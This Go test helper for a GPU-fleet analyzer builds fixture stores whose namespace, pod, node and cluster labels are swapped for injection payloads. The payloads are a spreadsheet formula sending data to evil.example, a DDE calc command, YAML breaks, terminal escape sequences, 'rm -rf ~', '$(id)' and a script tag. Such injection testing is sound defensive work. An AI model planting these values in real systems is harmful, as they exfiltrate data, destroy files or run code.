package main

import (
	"sort"
	"strings"
	"testing"

	"github.com/gpulens/gpulens/analyzer/pipeline/pipelinetest"
)

// hostile maps label values of the pipeline's fixture fleet to values
// anyone who can name a namespace, label a pod or write to the store can
// choose (issue 52): spreadsheet formulas (OWASP "CSV Injection"), YAML
// line and document breaks, a regular expression, terminal control
// sequences (an OSC 52 clipboard write ended by BEL, a CR and a line
// erase that overwrite a row, a C1 CSI), Markdown and HTML markup, shell
// syntax, and a 100 KB value. Each honest value has its own hostile one,
// so the two stores hold the same fleet under other names.
var hostile = map[string]string{
	// namespaces (and so teams, without cluster access)
	"training":  `=HYPERLINK("http://evil.example/?"&A1,"training")`,
	"research":  "research\n---\nkind: Secret\n# .*",
	"vision":    `-2+3+cmd|' /C calc'!A0`,
	"inference": "@SUM(1+1)\x1b]52;c;ZWNobyBoaQ==\x07\rinference",
	"search":    strings.Repeat("search.*", 100<<10/8),
	// pods: bare pods, whose name is the workload's (bob's is in the
	// previous week only, alice's in the report's)
	"bob-jupyter":   "bob|`jupyter`; rm -rf ~",
	"alice-jupyter": "--all\talice\u009b31m'$(id)'<script>alert(1)</script>",
	// a node
	"gpu-l4-01": "gpu-l4-01\r\x1b[2K| forged | row |\x7f",
	// clusters
	"eu": "=eu\n---\n",
	"us": "+us\x1b[31m\x07",
}

// hostileStores writes the pipeline's fixture fleet as two clusters (eu
// and us, as twoClusterStore does) twice: once as it is, and once with
// every label value in hostile replaced. It returns both stores and
// honestOf, which maps text of the hostile store back to the honest one.
func hostileStores(t *testing.T) (honest, bad string, honestOf func(string) string) {
	t.Helper()
	write := func(name func(string) string) string {
		dir := t.TempDir()
		var fs []*pipelinetest.Fixture
		for _, c := range []string{"eu", "us"} {
			f, err := pipelinetest.Read("../../analyzer/pipeline/testdata/fleet.yaml")
			if err != nil {
				t.Fatal(err)
			}
			f.Labels = map[string]string{"cluster": name(c)}
			for i := range f.GPUs {
				f.GPUs[i].Node = name(f.GPUs[i].Node)
			}
			for i := range f.Allocations {
				a := &f.Allocations[i]
				a.Node, a.Namespace, a.Pod = name(a.Node), name(a.Namespace), name(a.Pod)
			}
			fs = append(fs, f)
		}
		if err := pipelinetest.WriteAll(dir, fs...); err != nil {
			t.Fatal(err)
		}
		return dir
	}
	same := func(s string) string { return s }
	bad = write(func(s string) string {
		if h, ok := hostile[s]; ok {
			return h
		}
		return s
	})
	// Longest first, so that a value containing another is replaced whole.
	var pairs []string
	keys := make([]string, 0, len(hostile))
	for k := range hostile {
		keys = append(keys, k)
	}
	sort.Slice(keys, func(i, j int) bool { return len(hostile[keys[i]]) > len(hostile[keys[j]]) })
	for _, k := range keys {
		pairs = append(pairs, hostile[k], k)
	}
	return write(same), bad, strings.NewReplacer(pairs...).Replace
}
